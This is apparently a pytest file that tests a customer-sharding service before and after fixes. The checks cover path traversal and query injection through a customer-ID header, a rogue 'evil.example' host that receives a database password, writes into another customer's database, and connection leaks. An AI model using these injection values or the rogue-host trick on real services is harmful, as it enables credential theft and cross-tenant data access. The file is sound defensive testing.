"""The customer identifier in a request is trusted as published; corrected, it is checked before it is used."""

import pytest

from fixtures.waiting import eventually
from scenarios.customer_sharding.published import CUSTOMERS
from scenarios.customer_sharding.services.processes import PersonService, PublishedShardingService

# For each content of the header, the path that the published client requests from the sharding service.
PATHS = {"../admin": "/admin", "1?role=admin": "/write/1?role=admin", "1#2": "/write/1", None: "/write/None"}
ATTEMPTS = 30


def is_problem(answer, status):
    """Return whether an answer is a problem detail (RFC 9457) of this status."""
    status_in_body = answer.headers["Content-Type"] == "application/problem+json" and answer.json()["status"]
    return (answer.status_code, status_in_body) == (status, status)


class TestCustomerHeader:
    @pytest.mark.claim("shard-7", "path", shows="published", fails_with=r"assert \[\] == \['/admin'")
    def test_header_becomes_part_of_the_path(self, service, sharding, evidence):
        for header in PATHS:
            service.ask("POST", "/person/1", header)

        assert sharding.asked_for() == list(PATHS.values())
        evidence.table(
            "what the sharding service was asked for",
            [{"X-Customer-ID": header, "path": path} for header, path in zip(PATHS, sharding.asked_for(), strict=True)],
        )

    @pytest.mark.claim("shard-7", "path", shows="corrected", fails_with=r"assert \['/admin', .* == \[\]")
    def test_invalid_header_is_refused_without_a_lookup(self, service, sharding, of_customer):
        answers = [service.ask("POST", "/person/1", header) for header in PATHS]

        assert sharding.asked_for() == []
        assert all(is_problem(answer, 400) for answer in answers)
        assert of_customer["1"].customers() == {}


class TestPasswordOfADatabase:
    """The identifier becomes part of a host name, so an attacker's `evil.example` can receive the password."""

    IDENTIFIER = "1.evil.example"

    @pytest.fixture
    def service(self, way, serve, ports, rogue_server):
        """The service on the document's sharding service, with a host name that resolves to `rogue_server`."""
        sharding = serve(PublishedShardingService, ports, elsewhere=rogue_server.port)
        return serve(PersonService, way, {"SHARDING_MODE": "api", **sharding.settings})

    @pytest.mark.claim("shard-7", "host", shows="published", fails_with=r"assert \[\] == \['my-secret-pw'\]")
    def test_password_is_sent_to_the_host_in_the_header(self, service, rogue_server):
        service.ask("POST", "/person/1", self.IDENTIFIER)

        assert rogue_server.passwords == ["my-secret-pw"]

    @pytest.mark.claim("shard-7", "host", shows="corrected", fails_with=r"assert \['my-secret-pw'\] == \[\]")
    def test_password_is_not_sent_to_the_headers_host(self, service, rogue_server):
        answer = service.ask("POST", "/person/1", self.IDENTIFIER)

        assert rogue_server.passwords == []
        assert is_problem(answer, 400)


class TestPathOfAnotherCustomer:
    @pytest.mark.claim("shard-7", "customer", shows="published", fails_with=r"<Response \[403\]>\.ok")
    def test_path_puts_row_into_wrong_database(self, service, of_customer):
        assert service.ask("POST", "/person/2", "1").ok

        assert (of_customer["1"].customers(), of_customer["2"].customers()) == ({"2": 1}, {})

    @pytest.mark.claim(
        "shard-7", "customer", shows="corrected", fails_with=r"assert \[\{'1': \d.* == \[\{\}, \{\}, \{\}\]"
    )
    def test_path_of_another_customer_is_refused(self, service, of_customer):
        answers = [
            service.ask("POST", "/person/2", "1"),
            service.ask("POST", "/person/1", "1", json={"customer_id": "2"}),
            service.ask("POST", "/person/1", "1", data={"customer_id": "2"}),
            service.ask("POST", "/person/1?customer_id=2", "1"),
        ]

        assert [database.customers() for database in of_customer.values()] == [{}, {}, {}]
        assert all(is_problem(answer, 403) for answer in answers)


class TestUnknownPath:
    @pytest.mark.claim("shard-7", "unknown path", shows="published", fails_with=r"assert \[\] == \['/write/1'\]")
    def test_unknown_path_looks_up_a_route(self, service, sharding):
        assert service.ask("GET", "/favicon.ico", "1").status_code == 404

        assert sharding.asked_for() == ["/write/1"]

    @pytest.mark.claim("shard-7", "unknown path", shows="corrected", fails_with=r"assert \['/write/1'\] == \[\]")
    def test_unknown_path_looks_up_no_route(self, service, sharding):
        assert service.ask("GET", "/favicon.ico", "1").status_code == 404

        assert sharding.asked_for() == []


class TestReturnOfTheConnection:
    """A request must return its connection even if the view's error propagates, as in debug mode and in tests.

    The view raises because the first customer's database refuses the row.
    """

    @pytest.fixture
    def refusing(self, of_customer):
        """The first customer's database, which refuses every person."""
        of_customer["1"].connection.execute("ALTER TABLE person ADD CHECK (false)")
        return of_customer["1"]

    @pytest.fixture
    def service(self, person_service):
        return person_service({"FLASK_DEBUG": "1", "SHARDING_POOL_SIZE": "2"})

    @pytest.fixture
    def left_open(self, service, refusing, evidence):
        """Return a function that sends many failing requests, and returns the open connections after each of them."""

        def left_open():
            found = []
            for _ in range(ATTEMPTS):
                assert service.save("1").status_code == 500
                found.append(len(refusing.clients()))
            evidence.json("connections open after each request", found)
            return found

        return left_open

    @pytest.mark.claim("shard-7", "connections", shows="published", fails_with="assert 1 > 2")
    def test_connection_leaks_when_error_propagates(self, left_open):
        assert max(left_open()) > 2

    @pytest.mark.claim("shard-7", "connections", shows="corrected", fails_with=r"assert \{1, 2, .* == \{1\}")
    def test_connection_returns_when_error_propagates(self, left_open, service):
        assert set(left_open()) == {1}
        assert service.save("2").ok


class TestRequestWithoutADatabase:
    """As published, the hook after a request closes a connection that the hook before it may have failed to open."""

    @pytest.mark.claim("shard-7", "unserved", shows="published", fails_with="assert 503 == 500")
    def test_failure_to_connect_causes_a_second_error(self, service, sharding):
        sharding.kill()

        assert service.save("1").status_code == 500

        log = service.log(200)
        assert "ConnectionError" in log
        assert "AttributeError: 'db'" in log or "AttributeError: db" in log

    @pytest.mark.claim("shard-7", "unserved", shows="corrected", fails_with=r"is_problem\(<Response \[500\]>, 404\)")
    def test_failure_to_connect_is_a_problem_detail(self, service, sharding, databases, evidence):
        for customer in CUSTOMERS:
            assert service.save(customer).ok
        unknown = service.save("9")
        databases["third"].running.kill()
        dead = service.save("3")
        sharding.kill()
        not_looked_up = service.save("8")
        databases["third"].running.restart()

        assert is_problem(unknown, 404)
        for answer in (dead, not_looked_up):
            assert is_problem(answer, 503)
            assert int(answer.headers["Retry-After"]) >= 1
        evidence.json("problems", [answer.json() for answer in (unknown, dead, not_looked_up)])
        assert service.save("1").ok
        eventually(lambda: service.save("3").ok, within=30)
        assert "Traceback" not in service.log(200)
